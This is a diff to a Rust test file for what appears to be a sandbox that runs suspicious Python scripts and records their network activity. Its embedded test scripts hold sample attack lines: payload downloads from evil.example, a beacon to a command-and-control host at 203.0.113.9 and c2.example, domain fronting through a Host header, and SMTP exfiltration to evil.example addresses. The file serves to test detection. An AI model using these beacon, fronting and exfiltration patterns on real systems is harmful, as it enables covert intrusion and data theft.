@@ -87,18 +87,13 @@ async fn the_network_answers_and_leads_nowhere() {
     let script = "import socket, urllib.request\n\
                   print(urllib.request.urlopen('http://evil.example/a.sh', timeout=3).read().decode())\n\
                   print(socket.create_connection(('203.0.113.9', 4444), 3).send(b'hello from inside'))\n\
-                  import smtplib; s = smtplib.SMTP('mx.example', 25, timeout=3); s.sendmail('a@evil.example', ['b@victim.example'], 'x'); s.quit()\n\
-                  s = socket.create_connection(('files.example', 443), 3)\n\
-                  import ssl\n\
-                  try: ssl.create_default_context().wrap_socket(s, server_hostname='files.example')\n\
-                  except Exception as e: pass\n";
+                  import smtplib; s = smtplib.SMTP('mx.example', 25, timeout=3); s.sendmail('a@evil.example', ['b@victim.example'], 'x'); s.quit()";
     let Some(report) = run("loader.py", script).await else { return };
     for (action, text) in [
         (Action::Resolve, "evil.example"),
         (Action::Load, "GET http://evil.example/a.sh"),
         (Action::Connect, "203.0.113.9:4444"),
         (Action::Load, "smtp rcpt TO:<b@victim.example>"),
-        (Action::Load, "https://files.example/"),
         (Action::Resolve, "desktop"),
     ] {
         assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
@@ -106,6 +101,44 @@ async fn the_network_answers_and_leads_nowhere() {
     assert!(printed(&report).contains("exit 0"), "{}", printed(&report));
     assert!(report.timeline.iter().any(|e| e.detail.contains("hello from inside")), "{:#?}", report.timeline);
     assert!(report.contacted().contains(&"evil.example") && names(&report).contains(&"NATIVE_LOADS"));
+}
+
+#[tokio::test]
+async fn what_is_said_in_tls_is_read() {
+    let script = "import smtplib, socket, ssl, urllib.request\n\
+                  print(urllib.request.urlopen('https://evil.example/b.sh', timeout=3).read().decode())\n\
+                  print(urllib.request.urlopen('https://203.0.113.9:8443/c', timeout=3).read().decode())\n\
+                  front = urllib.request.Request('https://cdn.example/', headers={'Host': 'hidden.example'})\n\
+                  urllib.request.urlopen(front, timeout=3)\n\
+                  ours = ssl.create_default_context()\n\
+                  s = ours.wrap_socket(socket.create_connection(('c2.example', 4443), 3), server_hostname='c2.example')\n\
+                  s.send(b'hello from inside'); s.close()\n\
+                  theirs = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n\
+                  try: theirs.wrap_socket(socket.create_connection(('pinned.example', 443), 3), server_hostname='pinned.example')\n\
+                  except ssl.SSLError as e: print('not trusted')\n\
+                  m = smtplib.SMTP('mx.example', 587, timeout=3); m.starttls(context=ours); m.login('thief@evil.example', 'hunter2')\n\
+                  m.sendmail('a@evil.example', ['drop@evil.example'], 'x'); m.quit()\n\
+                  m = smtplib.SMTP_SSL('mx.example', 465, timeout=3, context=ours); m.sendmail('b@evil.example', ['late@evil.example'], 'x'); m.quit()\n";
+    let Some(report) = run("loader.py", script).await else { return };
+    assert!(printed(&report).contains("exit 0") && printed(&report).contains("not trusted"), "{:#?}", report.timeline);
+    for (action, text) in [
+        (Action::Load, "GET https://evil.example/b.sh"),
+        (Action::Load, "GET https://203.0.113.9:8443/c"),
+        (Action::Load, "smtp AUTH thief@evil.example"),
+        (Action::Load, "smtp rcpt TO:<drop@evil.example>"),
+        (Action::Load, "smtp rcpt TO:<late@evil.example>"),
+    ] {
+        assert!(did(&report, action, text), "{action:?} {text}: {:#?}", report.timeline);
+    }
+    for (text, detail) in [
+        ("GET https://hidden.example/", "TLS named cdn.example"),
+        ("https://c2.example:4443/", "sent in TLS: hello from inside"),
+        ("https://pinned.example/", "TLS came to nothing: received fatal alert"),
+    ] {
+        assert!(report.timeline.iter().any(|e| e.text == text && e.detail.starts_with(detail)), "{text} {detail}: {:#?}", report.timeline);
+    }
+    assert!(!format!("{report:?}").contains("hunter2"), "a password is not told");
+    assert!(!report.timeline.iter().any(|e| e.action == Action::Read && e.text.contains("/etc/ssl")), "{:#?}", report.timeline);
 }
 
 #[tokio::test]
